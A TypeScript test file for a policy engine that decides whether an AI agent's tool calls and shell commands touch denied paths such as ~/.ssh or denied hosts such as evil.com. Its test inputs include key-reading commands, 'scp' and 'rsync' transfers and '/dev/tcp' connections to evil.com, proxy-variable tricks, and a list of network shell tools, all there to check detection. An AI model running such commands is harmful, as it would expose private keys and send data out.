// Where a call reaches: its paths and hosts, in the fields of a tool's input and in the words of a command.
import { describe, expect, test } from 'vitest';
import { fitsGlob, positionOf } from '../../../src/domain/policy/match/glob.ts';
import { folded, resolved } from '../../../src/domain/policy/place.ts';
import { bash, lent, says } from './says.ts';

const noSsh = [{ path: '~/.ssh', decision: 'deny' }];

describe('a pattern', () => {
  test.for([
    ['', ''],
    ['*', ''],
    ['*', 'a'],
    ['**', 'a'],
    ['a*', 'a'],
    ['a**', 'a'],
    ['a*b', 'ab'],
    ['a*b', 'axb'],
    ['a*bc', 'abbc'],
    ['*ab', 'aab'],
    ['*ab', 'xabab'],
    ['a*b*c', 'a-b-b-c'],
    ['*ab*', 'xxaabxx'],
    ['?', 'a'],
    ['a?c', 'abc'],
    ['*?', 'a'],
    ['*.txt', 'a.txt.txt'],
  ])('%j fits %j', ([pattern = '', text = '']) => expect(fitsGlob(pattern, text)).toBe(true));

  test.for([
    ['', 'a'],
    ['a', ''],
    ['b', 'ab'],
    ['a', 'ab'],
    ['ab', 'a'],
    ['ab', 'bb'],
    ['a*', 'b'],
    ['a*', 'ba'],
    ['a*b', 'axbc'],
    ['a*ab', 'ab'],
    ['*b', 'a'],
    ['?', ''],
    ['?', 'ab'],
    ['a?', 'a'],
    ['*?', ''],
    ['a*?b', 'ab'],
  ])('%j does not fit %j', ([pattern = '', text = '']) => expect(fitsGlob(pattern, text)).toBe(false));
});

describe('a path', () => {
  test.for([
    ['/', '/', 'inside'],
    ['/', '/x', 'inside'],
    ['/a', '/a', 'inside'],
    ['/a', '/a/b', 'inside'],
    ['/a/b', '/a', 'above'],
    ['/a', '/', 'above'],
    ['/a', '/b', 'outside'],
    ['/a/b', '/b', 'outside'],
    ['/a/b', '/a/c/b', 'outside'],
    ['//a//b/', '/a/b', 'inside'],
    ['/a/*.x', '/a/b.x', 'inside'],
    ['/a/*.x', '/a/b.y', 'outside'],
    ['/a/?', '/a/b/c', 'inside'],
    ['/**/x', '/x', 'inside'],
    ['/**/x', '/a/b/x/c', 'inside'],
    ['/**/x', '/a/b', 'above'],
    ['/a/**/x', '/b/x', 'outside'],
    ['/a/**/x', '/a/x', 'inside'],
    ['/a/**', '/a/b', 'inside'],
    ['/a/**', '/a', 'above'],
  ])('as to the rule %s: %s is %s', ([rule = '', path = '', position]) => {
    expect(positionOf(rule, path, true)).toBe(position);
    expect(positionOf(rule, path, false)).toBe(position);
  });

  test.for([
    ['/a/b', '/a/*', 'inside', 'outside'],
    ['/a/b', '/*/b', 'inside', 'outside'],
    ['/a/b', '/a/c*', 'outside', 'outside'],
    ['/a/b', '/a/?', 'inside', 'outside'],
    ['/a/x*', '/a/*y', 'inside', 'outside'],
    ['/a/x*', '/a/xy', 'inside', 'inside'],
    ['/a/*', '/a/*', 'inside', 'inside'],
    ['/a/b', '/**', 'above', 'outside'],
    ['/a', '/**', 'inside', 'outside'],
    ['/a/b', '/**/b', 'inside', 'outside'],
    ['/a/b', '/**/c', 'above', 'outside'],
    ['/a/b', '/a/**', 'inside', 'outside'],
  ])(
    'that holds patterns, as to the rule %s: %s is %s, and %s by its letters',
    ([rule = '', path = '', ...positions]) =>
      expect([positionOf(rule, path, true), positionOf(rule, path, false)]).toEqual(positions),
  );

  test('has no needless parts, and starts where it is told', () => {
    expect(resolved('a/./b//c/../d', '/x')).toBe('/x/a/b/d');
    expect(resolved('/a/..', '/x')).toBe('/');
    expect(resolved('../../../a', '/x')).toBe('/a');
    expect([resolved('a'), resolved('/a/'), resolved('')]).toEqual(['/a', '/a', '/']);
  });

  test('is the same in another case, in another spelling of its accents, and with dots or blanks at its end', () => {
    expect(folded('/A/Ä./b. . ./c.d')).toBe('/a/ä/b/c.d');
    expect(folded('/a\u0308/x')).toBe(folded('/ä/x'));
    expect(folded(`/x${'.'.repeat(256)}`)).toBe('/x');
  });
});

describe('a path in the input of a tool', () => {
  const said = (input: unknown, tool = 'mcp__x__y', rule: object = { path: '~/.ssh', decision: 'deny' }) =>
    says([rule], tool, input);
  const id = '/home/u/.ssh/id';

  test.for([
    'path',
    'paths',
    'file',
    'filename',
    'filepath',
    'fileName',
    'file_path',
    'notebook_path',
    'files',
    'dir',
    'dirs',
    'directory',
    'folder',
    'cwd',
    'workdir',
    'root',
    'x_y_path',
    'filePath',
    'outputFile',
    'workDirs',
    'sourcePaths',
  ])('is looked for in the field %s', (name) => {
    expect([said({ [name]: id }), said({ [name]: '/x' })]).toEqual(['deny', 'leave']);
    expect([said({ [name]: ['/x', [id]] }), said({ [name]: 7 }), said({ [name]: ['/x', null] })]).toEqual([
      'deny',
      'ask',
      'ask',
    ]);
  });

  test.for(['content', 'xpath', 'pathology', 'path_x', 'Filer', 'xPathy', 'prompt'])(
    'may be meant in the field %s, which says nothing of itself',
    (name) =>
      expect([said({ [name]: id }), said({ [name]: '/x' }), said({ [name]: 7 })]).toEqual([
        'ask',
        'leave',
        'leave',
      ]),
  );

  test('is any where the input is not whole, may be in one without names, and is none in one without values', () => {
    expect([said('{"path'), said({}), said(null), said([id])]).toEqual(['ask', 'leave', 'leave', 'ask']);
  });

  test.for(['~/.ssh/id', '$HOME/.ssh/id', `\${HOME}/.ssh/id`, '~/.ssh/a\nb', 'link/id', '../../home/u/.ssh'])(
    'may be spelled %j',
    (path) => expect(said({ path })).toBe('deny'),
  );

  test.for(['x~/.ssh/id', '~x/.ssh/id', '$HOMES/.ssh/id', '/x/$HOME/.ssh', '~'.repeat(2)])(
    'is a name of its own as %j',
    (path) => expect(said({ path })).toBe('leave'),
  );

  test('is the home folder itself in three spellings, and those above it may hold it', () => {
    const noHome = { path: '~', decision: 'deny' };
    for (const path of ['~', '$HOME', `\${HOME}`, '~/'])
      expect([path, said({ path }, 'Read', noHome)]).toEqual([path, 'deny']);
    expect([said({ path: '/home' }, 'Read', noHome), said({ path: '~x' }, 'Read', noHome)]).toEqual([
      'ask',
      'leave',
    ]);
    expect(says([{ path: 'x~', decision: 'deny' }], 'Read', { path: '/w/p/x/home/u' })).toBe('leave');
    expect(says([{ path: 'a/~', decision: 'deny' }], 'Read', { path: '/w/p/a/~' })).toBe('deny');
  });

  test('is the working folder for the tools that look around when they name none', () => {
    const noWork = { path: '/w/p', decision: 'deny' };
    for (const tool of ['Grep', 'Glob', 'LS'])
      expect([tool, said({}, tool, noWork), said({ path: '/x' }, tool, noWork)]).toEqual([
        tool,
        'deny',
        'leave',
      ]);
    expect([said({}, 'Read', noWork), said({}, lent('Grep'), noWork)]).toEqual(['leave', 'ask']);
    expect(said({}, 'Grep', { path: '/w/p/x', decision: 'deny' })).toBe('ask');
  });

  test('is the pattern of Glob, and of no other tool', () => {
    const pattern = '/home/u/.ss*/id';
    expect([said({ pattern }, 'Glob'), said({ pattern }, 'Grep')]).toEqual(['deny', 'leave']);
    expect([said({ pattern: '~/.ss?' }, 'Glob'), said({ pattern: 7 }, 'Glob')]).toEqual(['deny', 'leave']);
    // Elsewhere a star is a letter of the name.
    expect(said({ path: pattern })).toBe('leave');
    const allowed = { tool: 'Glob', path: '/w/p', decision: 'allow' };
    expect([said({}, 'Glob', allowed), said({ pattern: '/w/p/x' }, 'Glob', allowed)]).toEqual([
      'allow',
      'leave',
    ]);
  });

  test('is each that a patch of the hub’s names', () => {
    const patch = (...lines: string[]) => ({
      input: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n'),
    });
    for (const line of ['Add File', 'Update File', 'Delete File', 'Move to'])
      expect([line, said(patch('*** Add File: /x', `*** ${line}: ${id} `), lent('apply_patch'))]).toEqual([
        line,
        'deny',
      ]);
    // `ask` is what every lent tool gets: a rule that allows shows what was read.
    const may = (input: unknown, tool = lent('apply_patch')) =>
      said(input, tool, { path: '/x', decision: 'allow' });
    expect([
      may(patch('*** Add File: /x \n')),
      may(patch(`+*** Add File: ${id}`, '*** Add File: /x')),
    ]).toEqual(['allow', 'allow']);
    expect([may(patch()), may({ input: 7 }), may({})]).toEqual(['ask', 'ask', 'ask']);
    expect(may(patch('*** Add File: /x', '*** Add File: /z'))).toBe('ask');
    // The blanks before a header are none of its.
    expect(may(patch('*** Add File: /x', ` \t*** Update File: ${id}`))).toBe('ask');
    // What `input` is to another tool, nobody knows.
    expect(may({ path: '/x', ...patch('*** Add File: /x') }, lent('other'))).toBe('ask');
    expect(may({ path: '/x', ...patch('*** Add File: /x') }, 'apply_patch')).toBe('leave');
    expect(may({ path: '/x' }, lent('other'))).toBe('allow');
    // A mode that asks nobody shows what a rule would have asked about.
    const free = (input: unknown) => says(noSsh, lent('apply_patch'), input, { mode: 'bypassPermissions' });
    expect([free(patch()), free({ input: 7 }), free({}), free(patch('*** Add File: /x'))]).toEqual([
      'ask',
      'ask',
      'ask',
      'allow',
    ]);
  });

  test('is allowed where all of them are known and lie inside, wherever their links lead', () => {
    const may = (input: object) => said(input, 'mcp__x__y', { path: '/w/p', decision: 'allow' });
    expect(may({ path: ['/w/p/a', '/w/p/b'] })).toBe('allow');
    for (const input of [
      {},
      { path: ['/w/p/a', '/x'] },
      { path: ['/w/p/a', 7] },
      { path: '/w/p/link/../a' },
      { path: '/w/p/link' },
      { path: '/home/u/.ssh/../../../w/p/link/x' },
    ])
      expect([input, may(input)]).toEqual([input, 'leave']);
    const linked = (file_path: string) =>
      said({ file_path }, 'Write', { path: '/w/p/link', decision: 'allow' });
    expect([linked('/w/p/link/a'), linked('/home/u/.ssh/a'), linked('/w/p/a')]).toEqual([
      'allow',
      'allow',
      'leave',
    ]);
    expect(says([{ path: '/w/*', decision: 'allow' }], 'Write', { file_path: '/w/x*/a' })).toBe('allow');
    expect(says([{ path: '/w/x', decision: 'allow' }], 'Write', { file_path: '/w/*' })).toBe('leave');
    expect(says([{ path: 'x', decision: 'allow' }], 'Write', { file_path: '/w/p/x/a' })).toBe('allow');
  });
});

describe('a path of a rule', () => {
  test('is followed up to its first pattern', () => {
    const leadsTo = (rule: string, path: string) =>
      says([{ path: rule, decision: 'deny' }], 'Read', { path });
    expect(leadsTo('/w/p/link/*.key', '/home/u/.ssh/a.key')).toBe('deny');
    expect(leadsTo('/w/p/link/?', '/home/u/.ssh/a')).toBe('deny');
    expect(leadsTo('/w/p/link/*.key', '/home/u/.ssh/a.pub')).toBe('leave');
    expect(leadsTo('/*/u/.ssh', '/home/u/.ssh/a')).toBe('deny');
    expect(leadsTo('/w/p/*', '/home/u/.ssh/a')).toBe('leave');
    expect(leadsTo('/w/p/x/**', '/w/p/x/link')).toBe('deny');
  });

  test('is not led astray by a link that is called like a pattern', () => {
    const real = (path: string) =>
      path.replace(/^\/w\/p\/link\/x?\*/, '/tmp/x').replace(/^\/w\/p\/link/, '/home/u/.ssh');
    const said = (rule: string, command: string) =>
      says([{ path: rule, decision: 'deny' }], 'Bash', { command }, {}, { real });
    expect([said('~/.ssh', 'cat link/*'), said('~/.ssh', 'cat link/x*')]).toEqual(['deny', 'deny']);
    expect(said('/w/p/link/*', 'cat ~/.ssh/id')).toBe('deny');
    expect(said('/w/p/link/*', 'cat /tmp/x')).toBe('leave');
  });

  test('is found behind a `..` that goes back by the words, and behind one that goes back from where a link leads', () => {
    // `away` leads to `/tmp/z`, next to which another `link` lies.
    const real = (path: string) =>
      path
        .replace(/^\/w\/p\/away\/\.\.\/link/, '/tmp/link')
        .replace(/^\/w\/p\/link/, '/home/u/.ssh')
        .replace(/^\/w\/p\/away/, '/tmp/z');
    const said = (path: string) =>
      says([{ path, decision: 'deny' }], 'Bash', { command: 'cd away; cd ../link; cat id' }, {}, { real });
    expect([said('~/.ssh'), said('/tmp/link'), said('/w/p/link'), said('/tmp/x')]).toEqual([
      'deny',
      'deny',
      'deny',
      'leave',
    ]);
  });

  test('starts at the session’s folder, and at none where that is not known', () => {
    const given = [{ path: 'x', decision: 'deny' }];
    expect([says(given, 'Read', { path: '/w/p/x' }), says(given, 'Read', { path: '/x' })]).toEqual([
      'deny',
      'leave',
    ]);
    const elsewhere = (path: string) => says(given, 'Read', { path }, {}, { cwd: undefined });
    expect([elsewhere('/x'), elsewhere('/w/p/x')]).toEqual(['deny', 'leave']);
  });
});

describe('a path in a command', () => {
  test.for([
    'cat x:/home/u/.ssh/id',
    'cat x@/home/u/.ssh/id',
    'cat a,/home/u/.ssh/id',
    'cat a=b=/home/u/.ssh/id',
    'cat --x=/home/u/.ssh/id',
    'cat --x=~/.ssh/id',
    'cat --x=~/.ssh/"id"',
    'cat x:~/.ssh',
    'cat -x/home/u/.ssh/id',
    'tar -xf/home/u/.ssh/id',
    'cat -x~/.ssh/id',
    '~/.ssh/run',
    'cat -- -x/../../../home/u/.ssh/id',
    'cd ~; cat -- -x/../.ssh/id',
    '> ~/.ssh/id',
    'A=~/.ssh/id',
    'A=~/.ssh/id cat x',
    `cat ${'a:'.repeat(8)}/home/u/.ssh/id`,
    `cat /home/u/.ssh/${'a:'.repeat(9)}`,
    `cat a:/home/u/.ssh/id${':a'.repeat(9)}`,
    `cat ${'a '.repeat(297)} ~/.ssh/id`,
    `cat ${'./'.repeat(194)}../../home/u/.ssh`,
  ])('is found: %j', (command) => expect(bash(noSsh, command)).toBe('deny'));

  test.for([
    `cat ${'a:'.repeat(9)}/home/u/.ssh/id`,
    `cat ${'a,'.repeat(9)}b`,
    `cat ${'a '.repeat(300)} ~/.ssh/id`,
    `cat ${'a '.repeat(300)}`,
    `cat ${'./'.repeat(200)}x`,
    'cat /home/$X',
    'cat /home/u/.s$X',
    'cat /home/u/.ssh$X',
    'cat ~$X',
    'cat $X/id',
    'cat x/$X',
    'cat ~x/.ssh/id',
    'cat --x=$X',
    'cat a$X:b',
    'cat /etc/$X',
  ])('is asked about where it may be meant: %j', (command) => expect(bash(noSsh, command)).toBe('ask'));

  test.for([
    'cat a --ssh',
    'cat x~/.ssh/id',
    'cat --x~=y/.ssh/id',
    `cat ${'a,'.repeat(8)}b`,
    `cat ${'a '.repeat(299)}`,
    `cat ${'./'.repeat(199)}x`,
    'cat -home/u/.ssh',
    'cat X/home/u/.ssh/a-/b',
    'cat ""',
    'cat $PWD/x',
    'cat -',
    'ls -la',
  ])('is not seen where none is named: %j', (command) =>
    expect(bash([{ path: '/home/u/.ssh', decision: 'deny' }], command)).toBe('leave'),
  );

  test('is no option, and may have a dash in its name', () => {
    expect(bash([{ path: '/w/p/-*', decision: 'deny' }], 'ls -la')).toBe('leave');
    expect(bash([{ path: '/w/p/a-b', decision: 'deny' }], 'cat a-b')).toBe('deny');
    expect(bash([{ path: '~', decision: 'deny' }], 'cat x:~')).toBe('deny');
  });

  test('is known as far as to its first unknown part', () => {
    const given = [{ path: '/a/b/c', decision: 'deny' }];
    const said = (command: string) => bash(given, command);
    expect(['/a/b/c/$X', '/a/b/$X', '/a/$X', '/$X', '/a/b/x$X'].map((path) => said(`cat ${path}`))).toEqual([
      'deny',
      'ask',
      'ask',
      'ask',
      'ask',
    ]);
    expect(['/a/x/$X', '/x/$X', '/a/b/x/$X'].map((path) => said(`cat ${path}`))).toEqual([
      'ask',
      'ask',
      'ask',
    ]);
  });

  test('starts wherever a cd may have led', () => {
    for (const command of [
      'cd ~ && cat .ssh/id',
      'cd; cat .ssh/id',
      'cd -P; cat .ssh/id',
      'cd /home; cd u; cat .ssh/id',
      'pushd ~; cat .ssh/id',
      'cd -- ~; cat .ssh/id',
      'false && cd /x; cat link/id',
      'cd a-b; cat ../link/id',
    ])
      expect([command, bash(noSsh, command)]).toEqual([command, 'deny']);
    for (const command of [
      'cd $X; cat id',
      'cd -; cat id',
      'popd; cat id',
      'pushd; cat id',
      'cd ~x; cat id',
      'cd /home/*; cat id',
      'cd a; cd b; cd c; cd d; cd e; cat x',
    ])
      expect([command, bash(noSsh, command)]).toEqual([command, 'ask']);
    for (const command of [
      'cd /x; cat id',
      'cp ~ x; cat id',
      'cd a; cd b; cd c; cd d; cat x',
      'cd a-b; cat x',
      'cdx ~root',
    ])
      expect([command, bash([{ path: '~/.ssh/id', decision: 'deny' }], command)]).toEqual([
        command,
        command.includes('~') ? 'ask' : 'leave',
      ]);
  });

  test('of the hub starts nowhere that is known, unless it says so', () => {
    const said = (command: string) =>
      says(noSsh, lent('exec'), { command }, { mode: 'bypassPermissions' }, { cwd: undefined });
    for (const command of ['cat id', 'cat $PWD/id', 'cat /x', 'cd /x; cat y'])
      expect([command, said(command)]).toEqual([command, 'ask']);
    expect([said('> /x'), said('/bin/cat /x')]).toEqual(['allow', 'allow']);
    expect(says(noSsh, lent('exec'), { path: '/x' }, { mode: 'bypassPermissions' })).toBe('allow');
    expect(said('cat /home/u/.ssh/id')).toBe('deny');
    const inX = { command: '/bin/cat $PWD/id', workdir: '/x' };
    expect(says(noSsh, lent('exec'), inX, { mode: 'bypassPermissions' }, { cwd: undefined })).toBe('ask');
  });
});

describe('a host', () => {
  const noEvil = [{ host: 'evil.com', decision: 'deny' }];
  const fetches = (input: unknown, rule: object = noEvil[0] ?? {}) => says([rule], 'WebFetch', input);

  test.for([
    'url',
    'urls',
    'uri',
    'host',
    'hostname',
    'endpoint',
    'endpoints',
    'base_url',
    'a_b_host',
    'baseUrl',
    'targetUris',
    'dbHost',
    'dbHosts',
  ])('is looked for in the field %s', (name) => {
    expect([fetches({ [name]: 'http://evil.com' }), fetches({ [name]: 'http://x' })]).toEqual([
      'deny',
      'leave',
    ]);
    expect([
      fetches({ [name]: ['x', 'evil.com'] }),
      fetches({ [name]: 7 }),
      fetches({ [name]: ':' }),
    ]).toEqual(['deny', 'ask', 'ask']);
  });

  test.for(['text', 'curl', 'ghost', 'url_x', 'urlencoded', 'Hosted', 'xUrly'])(
    'may be meant in the field %s, which says nothing of itself',
    (name) =>
      expect([
        fetches({ [name]: 'evil.com' }),
        fetches({ [name]: 'good.com' }),
        fetches({ [name]: 7 }),
      ]).toEqual(['ask', 'leave', 'leave']),
  );

  test('is none in the words for the tool', () =>
    expect(fetches({ url: 'good.com', prompt: 'https://evil.com' })).toBe('leave'));

  test.for([
    ' evil.com ',
    ' https://evil.com\n',
    '://evil.com',
    'http://evil.com.',
    'EVIL.COM',
    'evil.com:80/x?y#z',
  ])('is read as %j', (url) => expect(fetches({ url })).toBe('deny'));

  test('of a rule may have stars, a dot at its end, or be the letters that it is', () => {
    const said = (host: string, url: string) => fetches({ url }, { host, decision: 'deny' });
    expect(said('*.Evil.com', 'http://a.b.evil.com')).toBe('deny');
    expect(said('*.evil.com.', 'http://a.evil.com')).toBe('deny');
    expect(said('*evil.com', 'http://evil.com')).toBe('deny');
    expect(said('*.evil.com', 'http://evil.com')).toBe('leave');
    expect(said('*.a.b', 'http://x.a.b')).toBe('deny');
    expect(said('EVIL.com.', 'http://evil.com')).toBe('deny');
    expect(said('[::1]', 'http://[::1]/')).toBe('deny');
    expect(said('http://evil.com/x', 'http://evil.com')).toBe('deny');
    // No host at all: it fits nothing, and breaks nothing.
    expect(said('a b', 'http://x')).toBe('leave');
    expect(bash([{ host: '*.evil.com', decision: 'deny' }], 'curl : a.evil.com')).toBe('deny');
    expect(bash([{ host: '*.evil.com', decision: 'deny' }], 'curl :')).toBe('leave');
  });

  test('is allowed when every one that the call names is', () => {
    const may = (input: unknown) => says([{ host: 'good.com', decision: 'allow' }], 'mcp__x__y', input);
    expect([may({ url: 'good.com' }), may({ urls: ['good.com', 'https://good.com/x'] })]).toEqual([
      'allow',
      'allow',
    ]);
    for (const input of [
      { urls: ['good.com', 'evil.com'] },
      { url: 'good.com', host: 7 },
      { url: ':' },
      {},
      '{"url',
    ])
      expect([input, may(input)]).toEqual([input, 'leave']);
    expect([fetches('{"url'), fetches({})]).toEqual(['ask', 'leave']);
  });

  test.for([
    ['curl evil.com', 'deny'],
    ['curl -x=evil.com', 'deny'],
    ['ssh u@evil.com', 'deny'],
    ['ls evil.com', 'leave'],
    ['evil.com', 'ask'],
    ['curl x=y=evil.com', 'deny'],
    ['curl x', 'leave'],
    ['curl evil.com@good.com', 'ask'],
    ['curl x:y:z', 'leave'],
    ['ls $X', 'leave'],
    ['curl $X', 'ask'],
    ['/usr/bin/wget $X', 'ask'],
    ['timeout 5 $X', 'ask'],
    ['$X $Y', 'ask'],
    ['$X y', 'ask'],
    ['python3 x', 'ask'],
    ['python3', 'ask'],
    ['./x', 'ask'],
    ['ls', 'leave'],
    ['> evil.com', 'leave'],
    ['curl -xevil.com h', 'ask'],
    ['curl -sevil.com', 'ask'],
    ['curl --url=evil.com', 'deny'],
    ['curl --connect-to ::evil.com: h', 'ask'],
    ['curl http://%65vil.com', 'deny'],
    ['curl "http://good.com/?u=http%3A%2F%2Fevil.com"', 'ask'],
    ['curl good.com/%', 'leave'],
    ['curl http://notevil.com', 'leave'],
    ['curl http://evil.com.good.com', 'leave'],
    ['curl "http://localhost/$X"', 'leave'],
    ['curl http://localhost:$X/y', 'ask'],
    ['curl "http://x@$X/"', 'ask'],
    ['git clone git@evil.com:a/b', 'deny'],
    ['git remote add x evil.com:a', 'deny'],
    ['rsync x evil.com::y', 'deny'],
    ['scp x u@evil.com:y', 'deny'],
    ['https_proxy=evil.com curl h', 'deny'],
    ['export ALL_PROXY=http://evil.com', 'deny'],
    ['x=evil.com; echo y', 'deny'],
    ['env http_proxy=evil.com curl h', 'deny'],
    ['exec 3<> /dev/tcp/evil.com/80', 'ask'],
    ['cat < /dev/udp/evil.com/80', 'ask'],
    ['cat < /dev/tcp/good.com/80', 'leave'],
    ['cat < $X', 'ask'],
    ['cat < ~/evil.com', 'leave'],
    ['cat < $PWD/evil.com', 'leave'],
    ['cat < "/d$X"', 'ask'],
    ['cat < "/home/$X"', 'leave'],
    ['nohup curl evil.com', 'deny'],
    ['xargs curl', 'ask'],
    ['xargs cat', 'leave'],
    ['echo evil.com', 'leave'],
    ['git commit -m "see http://evil.com"', 'leave'],
    ['whatever', 'ask'],
    ['eval eval eval eval eval eval eval echo x', 'ask'],
  ])('in a command: %s', ([command = '', decision]) => expect(bash(noEvil, command)).toBe(decision));

  test.for([
    ...'curl dig host http https nc ncat netcat nslookup ping rsync scp traceroute wget whois xh'.split(' '),
    ...[
      'git clone',
      'git fetch',
      'git ls-remote',
      'git pull',
      'git remote add',
      'gh api',
      'npm view',
      'pip show',
      'go mod download',
    ],
  ])('may be any where %s does not say which', (program) =>
    expect([bash(noEvil, `${program} $X`), bash(noEvil, `${program} x`)]).toEqual(['ask', 'leave']),
  );
});
